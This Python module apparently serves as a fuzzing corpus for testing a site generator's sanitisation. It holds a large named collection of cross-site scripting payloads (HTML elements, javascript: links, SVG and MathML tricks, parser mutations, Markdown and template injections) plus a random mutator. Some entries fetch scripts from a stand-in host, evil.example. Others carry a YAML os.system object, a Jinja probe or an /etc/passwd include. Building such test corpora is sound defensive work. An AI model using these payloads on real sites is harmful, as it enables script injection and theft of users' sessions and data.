"""Texts that try to run a script in a reader's browser, each with a name.

`HACK` stands for a statement that shows that it ran. Sources of the ideas: the cheat sheets of OWASP
and PortSwigger, reports of mutation XSS against DOMPurify and Ammonia, and what Markdown, Jinja,
YAML, JSON-LD and Atom make of a text. A text goes into every field that takes one; where a field is
one line, its line breaks become spaces.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable
from typing import Final

SENTINEL: Final = "window.hacked=1"

_JS: Final = "javascript:HACK"

ELEMENTS: Final = {
    "script": "<script>HACK</script>",
    "script in capitals": "<SCRIPT>HACK</SCRIPT>",
    "script with a slash": "<script/x>HACK</script>",
    "script with a line break": "<script\n>HACK</script\n>",
    "script without end": "<script>HACK",
    "script in a script": "<scr<script>ipt>HACK</scr</script>ipt>",
    "script after a bracket": "<<script>HACK//<</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script as a module": "<script type=module>HACK</script>",
    "script as data": "<script src='data:text/javascript,HACK'></script>",
    "script for the theme": "<script id=__config type=application/json>{}</script>",
    "import map": '<script type=importmap>{"imports":{"./dom.js":"data:text/javascript,HACK"}}</script>',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
    "img onerror": "<img src=x onerror=HACK>",
    "img onerror in quotes": "<img src='x' onerror='HACK'>",
    "img with slashes": "<img/src=x/onerror=HACK>",
    "img with a form feed": "<img src=x\fonerror=HACK>",
    "img in capitals": "<IMG SRC=x ONERROR=HACK>",
    "img with a backtick": "<img src=`x`onerror=HACK>",
    "img with two quotes": '<img """><script>HACK</script>">',
    "img javascript": f'<img src="{_JS}">',
    "img lowsrc": f"<img dynsrc='{_JS}' lowsrc='{_JS}'>",
    "img srcset": "<img srcset='x 1x, //evil.example/x 2x' onload=HACK>",
    "image": "<image src=x onerror=HACK>",
    "input autofocus": "<input autofocus onfocus=HACK>",
    "input image": "<input type=image src=x onerror=HACK>",
    "select autofocus": "<select autofocus onfocus=HACK>",
    "textarea autofocus": "<textarea autofocus onfocus=HACK>",
    "button": f"<button formaction='{_JS}' autofocus onfocus=HACK>go</button>",
    "keygen": "<keygen autofocus onfocus=HACK>",
    "details": "<details open ontoggle=HACK>x</details>",
    "marquee": "<marquee onstart=HACK>x</marquee>",
    "video": "<video src=x onerror=HACK><source onerror=HACK></video>",
    "audio": "<audio src=x onerror=HACK></audio>",
    "body": "<body onload=HACK onpageshow=HACK>",
    "frameset": "<frameset onload=HACK>",
    "iframe": f"<iframe src='{_JS}'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.HACK</script>'></iframe>",
    "iframe data": "<iframe src='data:text/html,<script>parent.HACK</script>'></iframe>",
    "object": f"<object data='{_JS}'></object>",
    "object of another kind": "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "embed": f"<embed src='{_JS}'>",
    "applet": "<applet code=x archive=//evil.example/x></applet>",
    "base": "<base href='//evil.example/'>",
    "base javascript": f"<base href='{_JS}//'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css onload=HACK>",
    "link preload": "<link rel=preload as=script href=//evil.example/x.js>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_JS}'>",
    "meta policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "style import": "<style>@import '//evil.example/x.css';</style>",
    "style hides all": "<style>body{display:none}</style>",
    "style attribute": f"<p style=\"background:url('{_JS}')\">x</p>",
    "style expression": "<p style='width:expression(HACK)'>x</p>",
    "style animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=HACK>x",
    "form": f"<form action='{_JS}'><input type=submit autofocus></form>",
    "isindex": f"<isindex action='{_JS}' type=submit>",
    "template": "<template><script>HACK</script></template>",
    "template with a shadow": "<div><template shadowrootmode=open><script>HACK</script></template></div>",
    "custom element": "<x-x tabindex=1 autofocus onfocus=HACK>x</x-x>",
    "contenteditable": "<p contenteditable autofocus onfocus=HACK>x</p>",
    "popover": "<p popover onbeforetoggle=HACK id=x>x</p><button popovertarget=x>y</button>",
    "dialog": "<dialog open onclose=HACK><form method=dialog><button autofocus>x</button></form></dialog>",
    "portal": f"<portal src='{_JS}'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=HACK>">',
    "plaintext": "<plaintext><script>HACK</script>",
    "xmp": "<xmp><script>HACK</script></xmp><img title='</xmp><img src=x onerror=HACK>'>",
    "listing": "<listing>&lt;img onerror=HACK src=x&gt;</listing>",
    "title": "<title><img src=x onerror=HACK></title>",
    "table background": f"<table background='{_JS}'><tr><td background='{_JS}'>x</table>",
}
LINKS: Final = {
    "javascript": f"<a href='{_JS}'>x</a>",
    "in capitals": "<a href='JaVaScRiPt:HACK'>x</a>",
    "with a tab": "<a href='java\tscript:HACK'>x</a>",
    "with a line break": "<a href='java\nscript:HACK'>x</a>",
    "with an entity": "<a href='java&#115;cript:HACK'>x</a>",
    "with entities without end": "<a href='&#0000106&#0000097vascript:HACK'>x</a>",
    "with a named colon": "<a href='javascript&colon;HACK'>x</a>",
    "with a named tab": "<a href='java&Tab;script&colon;HACK'>x</a>",
    "after a space": "<a href='  javascript:HACK'>x</a>",
    "after a control character": "<a href='&#1;javascript:HACK'>x</a>",
    "with a comment": "<a href='javascript://example.org/%0aHACK'>x</a>",
    "percent-encoded": "<a href='javascript%3AHACK'>x</a>",
    "vbscript": "<a href='vbscript:HACK'>x</a>",
    "data": "<a href='data:text/html,<script>HACK</script>'>x</a>",
    "data in base64": "<a href='data:text/html;base64,PHNjcmlwdD5IQUNLPC9zY3JpcHQ+'>x</a>",
    "blob": "<a href='blob:https://evil.example/x'>x</a>",
    "feed": "<a href='feed:javascript:HACK'>x</a>",
    "view-source": "<a href='view-source:javascript:HACK'>x</a>",
    "onclick": "<a href='#' onclick=HACK>x</a>",
    "onmouseover without space": "<a href='#'onmouseover=HACK>x</a>",
    "target and opener": "<a href='//evil.example' target=_blank rel=opener>x</a>",
    "ping": "<a href='#' ping='//evil.example/p'>x</a>",
    "download": "<a href='data:text/html,x' download=x.html>x</a>",
    "xlink": f"<a xlink:href='{_JS}'>x</a>",
    "area": f"<map name=m><area href='{_JS}' shape=default></map><img usemap=#m src=x>",
    "Markdown javascript": f"[x]({_JS})",
    "Markdown in angle brackets": f"[x](<{_JS}>)",
    "Markdown with a tab": "[x](java&Tab;script:HACK)",
    "Markdown with entities": "[x](&#106;avascript&#58;HACK)",
    "Markdown in capitals": "[x](JAVASCRIPT:HACK)",
    "Markdown escaped": "[x](\\j\\avascript\\:HACK)",
    "Markdown title": '[x](https://example.org "y\\" onclick=\\"HACK")',
    "Markdown title in apostrophes": "[x](https://example.org 'y\" onmouseover=\"HACK')",
    "Markdown address": '[x](https://example.org/"onmouseover="HACK)',
    "Markdown reference": f'[x]\n\n[x]: {_JS} "y"',
    "Markdown reference title": "[x]\n\n[x]: https://example.org '\"><img src=x onerror=HACK>'",
    "Markdown autolink": f"<{_JS}>",
    "Markdown image": f"![x]({_JS})",
    "Markdown image text": '![x" onerror="HACK](x.png)',
    "Markdown image title": "![x](x.png 'y\" onload=\"HACK')",
    "Markdown image with quote": '![x](x.png"onerror="HACK)',
    "Markdown image in a link": f"[![x](x onerror=HACK)]({_JS})",
    "wikilink": f"[[{_JS}]] [[x|<img src=x onerror=HACK>]]",
    "picture scheme": '![x](<image:" onerror="HACK>) <img src=\'image:x" onerror=HACK \' alt=x>',
    "picture scheme of a script": "![x](image:javascript:HACK) <a href='image:\tjavascript:HACK'>x</a>",
    "file scheme": '[x](file:javascript:HACK) [y](file:"><script>HACK</script>)',
    "file scheme in disguise": "<a href='fi\nle:javascript:HACK' title='file:'>x</a>",
    "thread scheme": '[x](thread:javascript:HACK) [y](thread:"><script>HACK</script>)',
    "bare address": 'https://example.org/"onmouseover="HACK https://example.org/<script>HACK</script>',
    "bare javascript": "javascript:HACK://example.org javascript://x%0aHACK",
    "mail": '[x](mailto:a@example.org?subject=<script>HACK</script>"onclick=HACK)',
}
SVG: Final = {
    "onload": "<svg onload=HACK></svg>",
    "with a slash": "<svg/onload=HACK>",
    "script": "<svg><script>HACK</script></svg>",
    "script by href": "<svg><script href='data:text/javascript,HACK'></script></svg>",
    "a": f"<svg><a href='{_JS}'><text y=20>x</text></a></svg>",
    "animate": f"<svg><a><animate attributeName=href values='{_JS}'/><text y=20>x</text></a></svg>",
    "set": f"<svg><a id=s><set attributeName=href to='{_JS}'/></a></svg>",
    "onbegin": "<svg><animate onbegin=HACK attributeName=x dur=1s></svg>",
    "use": '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg" onload="HACK"/>#x\'/></svg>',
    "foreignObject": "<svg><foreignObject><iframe srcdoc='<script>parent.HACK</script>'></iframe></foreignObject></svg>",
    "style": "<svg><style><img src=x onerror=HACK></style></svg>",
    "title": "<svg><title><img src=x onerror=HACK></title></svg>",
    "desc": "<svg><desc><style><a id='</style><img src=x onerror=HACK>'>",
    "image": "<svg><image href=x onerror=HACK></svg>",
    "handler": "<svg><handler type=text/javascript ev:event=load>HACK</handler></svg>",
    "CDATA": "<svg><![CDATA[><img src=x onerror=HACK>]]></svg>",
    "math xlink": f"<math xlink:href='{_JS}'>x</math>",
    "math maction": f"<math><maction actiontype=statusline#{_JS} xlink:href='{_JS}'>x</maction></math>",
    "math mi": "<math><mi><style><!--</style><img src=x onerror=HACK>--></mi></math>",
}
MUTATIONS: Final = {
    "svg p style": '<svg></p><style><a id="</style><img src=1 onerror=HACK>">',
    "math mglyph style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=HACK&gt;'>",
    "math mtext mglyph": "<math><mtext></mtext><mglyph><style><img src=x onerror=HACK></style></mglyph></math>",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HACK>",
    "annotation": "<math><annotation-xml encoding=text/html><style><img src=x onerror=HACK></style></annotation-xml></math>",
    "noscript in a title": "<noscript><style></noscript><img src=x onerror=HACK></style>",
    "select in a template": "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=HACK>'>",
    "svg in a select": "<select><svg><style><img src=x onerror=HACK></style></svg></select>",
    "table in a p": "<p><table><tr><td><p></table><img src=x onerror=HACK>",
    "nested a": "<a href=#><table><a href='x' onclick=HACK>x</a></table></a>",
    "comment with a bang": "<!--><img src=x onerror=HACK>-->",
    "comment with an end": "<!-- --!><img src=x onerror=HACK> -->",
    "comment with a dash": "<!---><script>HACK</script>--->",
    "comment without end": "<!-- <img src=x onerror=HACK>",
    "conditional comment": "<!--[if gte IE 4]><script>HACK</script><![endif]-->",
    "bogus comment": "<?xml><img src=x onerror=HACK>?>",
    "bogus end tag": "</ ><img src=x onerror=HACK>",
    "bogus doctype": "<!x '><img src=x onerror=HACK>'>",
    "CDATA": "<![CDATA[<script>HACK</script>]]>",
    "attribute with an end tag": "<p title='</p><img src=x onerror=HACK>'>x</p>",
    "attribute with backticks": "<p title='``onmouseover=HACK'>x</p>",
    "attribute without quotes": "<p title=x/onmouseover=HACK>x</p>",
    "an equals sign first": "<p =onmouseover=HACK title=x>x</p>",
    "a slash for a space": "<p/title=x/onclick=HACK>x</p>",
    "double encoding": "&lt;img src=x onerror=HACK&gt; &amp;lt;script&amp;gt;HACK&amp;lt;/script&amp;gt;",
    "UTF-7": "+ADw-script+AD4-HACK+ADw-/script+AD4-",
    "fullwidth": "\uff1cscript\uff1eHACK\uff1c/script\uff1e",
    "overlong spaces": "<img\u00a0src=x\u2003onerror=HACK>",
    "long s": "<\u017fcript>HACK</\u017fcript>",
    "Kelvin sign": "<lin\u212a rel=stylesheet href=//evil.example>",
    "right to left": "\u202e>tpircs/<KCAH>tpircs<\u202c <script>HACK</script>",
    "byte order mark": "\ufeff<script>HACK</script>",
}
MARKDOWN: Final = {
    "code fence language": '```html"><script>HACK</script>\nx\n```',
    "code fence of the theme": "``` { .js onclick=HACK }\nx\n```",
    "mermaid": "```mermaid\ngraph TD\nA[<img src=x onerror=HACK>]-->B\nclick A HACK\n```",
    "code": "`<script>HACK</script>` ``<img src=x onerror=HACK>``",
    "code that ends itself": "```\n</code></pre><script>HACK</script>\n```",
    "indented code": "    <script>HACK</script>\n\n</code></pre><img src=x onerror=HACK>",
    "table": "| <img src=x onerror=HACK> | b |\n|--|--:|\n| `<script>HACK</script>` | </td><script>HACK</script> |",
    "table alignment": '|a|\n|:-:|\n|<td style="text-align: right" onclick=HACK>x|',
    "footnote": "x[^1]\n\n[^1]: <script>HACK</script>",
    "footnote name": 'x[^"><script>HACK</script>]\n\n[^"><script>HACK</script>]: y',
    "footnote javascript": f"x[^{_JS}]\n\n[^{_JS}]: y",
    "alert": '> [!NOTE]\n> <script>HACK</script>\n\n> [!WARNING"><img src=x onerror=HACK>]\n> x',
    "task list": "- [x] <img src=x onerror=HACK>\n- [ ] <input type=checkbox onclick=HACK>",
    "heading": "# <script>HACK</script> {#x onclick=HACK}",
    "heading underlined": "<img src=x onerror=HACK>\n===",
    "heading attributes": "# x {onclick=HACK .y}\n\n[y](#x){onclick=HACK}",
    "quote": "> <img src=x\n> onerror=HACK>",
    "list": "- <script>\n- HACK\n- </script>",
    "HTML around Markdown": "<div>\n\n**x** <img src=x onerror=HACK>\n\n</div>",
    "HTML without end": "<p title='\n\n<img src=x onerror=HACK>\n\n'>",
    "emphasis across": "**<img src=x onerror=HACK** y>",
    "escapes": "\\<script>HACK\\</script> \\![x](x)",
    "hard break": "<script>  \nHACK\\\n</script>",
    "entity": "&lt;script&gt;HACK&lt;/script&gt; &#60;script&#62;HACK&#60;/script&#62;",
    "link around HTML": "[<img src=x onerror=HACK>](https://example.org)",
    "strikethrough": "~~<script>~~HACK~~</script>~~",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<--\n<script>HACK</script>',
    "attribute list of an image": "![x](x.png){ onerror=HACK }",
    "abbreviation": "*[HTML]: <script>HACK</script>\n\nHTML",
    "definition list": "x\n: <script>HACK</script>",
    "mathematics": "$$\\href{javascript:HACK}{x}$$ \\(\\unicode{<script>HACK</script>}\\)",
    "emoji": ':smile"onclick="HACK: :material-x<img src=x onerror=HACK>:',
}
CONTEXTS: Final = {
    "end of a script": "</script><script>HACK</script>",
    "end of JSON": '"}</script><script>HACK</script>{"',
    "end of JSON, escaped": '\\"}]};HACK;//',
    "a comment in a script": "<!--<script>HACK</script>",
    "two comments in a script": "<!--<script> --></script><script>HACK</script>",
    "line separators": "\u2028HACK\u2029;HACK",
    "end of CDATA": "]]><script>HACK</script><![CDATA[",
    "end of a text in a script": "';HACK;'\";HACK;\"`;HACK;`",
    "a template string": "${HACK} `${HACK}`",
    "end of an attribute": "\" onmouseover=HACK x=\"' onmouseover=HACK y='",
    "end of an attribute and tag": "\"'><img src=x onerror=HACK>",
    "end of a title": "</title><script>HACK</script>",
    "end of a textarea": "</textarea><script>HACK</script>",
    "end of a style": "</style><script>HACK</script>",
    "end of a comment": "--><script>HACK</script><!--",
    "end of a head": "</head><body onload=HACK>",
    "end of a noscript": "</noscript><script>HACK</script>",
    "end of a template": "</template><script>HACK</script>",
    "Jinja": "{{ ''.__class__.__mro__ }}{% raw %}{{ HACK }}{# x #}<script>HACK</script>",
    "Jinja that loops": "{% for x in range(9) %}<script>HACK</script>{% endfor %}{{ config }}",
    "Angular": "{{constructor.constructor('HACK')()}}",
    "Vue": "<p v-html=\"'<img src=x onerror=HACK>'\" @click=HACK :href='HACK'>x</p>",
    "htmx": "<p hx-get=//evil.example hx-trigger=load hx-on:click=HACK data-hx-on=HACK>x</p>",
    "data of the theme": "<div data-md-component=search data-md-toggle=drawer id=__drawer>x</div>",
    "data of ours": "<div data-tb-page=search data-tb-action=print data-tb-feedback=//evil.example>x</div>",
    "clobbering": "<img name=querySelector id=__config><a id=md id=body name=head>x</a><form name=forms>",
    "clobbering of the theme": "<div id=__config>{}</div><div id=__search></div><div id=__palette></div>",
    "clobbering of ours": "<div id=tb-announced>x</div><div id=tb_query></div><div id=tb-results></div>",
    "a slot": "%%content%% <!--%%head%%--> %%title-0000000000000000%%",
    "a format": "%s %(x)s {0} {title} {url} %n <script>HACK</script>",
    "YAML": "!!python/object/apply:os.system [HACK] <script>HACK</script>",
    "a front matter": "---\nwoven: true\nhead: <script>HACK</script>\n---",
    "a pattern": "$1 $& $` \\1 \\g<0> (a+)+$ <script>HACK</script>",
    "a path": "../../../<script>HACK</script>/..%2f..%2f",
}

GROUPS: Final = {
    "element": ELEMENTS,
    "link": LINKS,
    "svg": SVG,
    "mutation": MUTATIONS,
    "markdown": MARKDOWN,
    "context": CONTEXTS,
}
PAYLOADS: Final = {
    f"{group}: {name}": text.replace("HACK", SENTINEL)
    for group, texts in GROUPS.items()
    for name, text in texts.items()
}
"""All of them, by name."""


def as_line(text: str) -> str:
    """Return a text for a field of one line."""
    return " ".join(text.split())[:480] or "x"


# Mutations

_SPACES: Final = ["\t", "\n", " ", "/", "\f", "\u00a0", "/**/", "\r\n"]
_WRAPS: Final = [
    "> {}",
    "- {}",
    "| a |\n|--|\n| {} |",
    "<div>\n\n{}\n\n</div>",
    "**{}**",
    "[{}](https://example.org)",
    "![{}](x.png)",
    "`{}`",
    "<details><summary>{}</summary></details>",
    "<!-- {}",
    "<svg>{}",
    "<math><mtext>{}",
    "<table>{}",
    "<select>{}",
    "<p title='{}'>",
    '<p title="{}">',
    "[x]: https://example.org '{}'\n\n[x]",
    "```\n{}",
    "x[^1]\n\n[^1]: {}",
]


def _swap_case(text: str, dice: random.Random) -> str:
    return "".join(each.swapcase() if dice.random() < 0.3 else each for each in text)


def _insert(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text) + 1)
    more: str = dice.choice([*_SPACES, *"<>\"'`=&;!-[]()\\"])
    return text[:at] + more + text[at:]


def _drop(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text))
    return text[:at] + text[at + 1 :]


def _encode(text: str, dice: random.Random) -> str:
    at = dice.randrange(len(text))
    code = ord(text[at])
    spelled = dice.choice([f"&#{code};", f"&#x{code:x};", f"&#{code:07}", f"%{code % 256:02x}"])
    return text[:at] + spelled + text[at + 1 :]


def _respace(text: str, dice: random.Random) -> str:
    return text.replace(" ", dice.choice(_SPACES), 1)


def _wrap(text: str, dice: random.Random) -> str:
    return dice.choice(_WRAPS).replace("{}", text)


def _join(text: str, dice: random.Random) -> str:
    other = dice.choice([*PAYLOADS.values()])
    at = dice.randrange(len(text) + 1)
    return text[:at] + other + text[at:]


def _escape(text: str, dice: random.Random) -> str:  # noqa: ARG001 - it has the form of the others
    return html.escape(text)


_CHANGES: Final[list[Callable[[str, random.Random], str]]] = [
    _swap_case,
    _insert,
    _insert,
    _drop,
    _encode,
    _respace,
    _wrap,
    _wrap,
    _join,
    _escape,
]


def mutate(dice: random.Random) -> str:
    """Return one of the texts, changed at random in one to five ways."""
    text: str = dice.choice([*PAYLOADS.values()])
    for _ in range(dice.randint(1, 5)):
        text = dice.choice(_CHANGES)(text, dice) or "x"
    return text
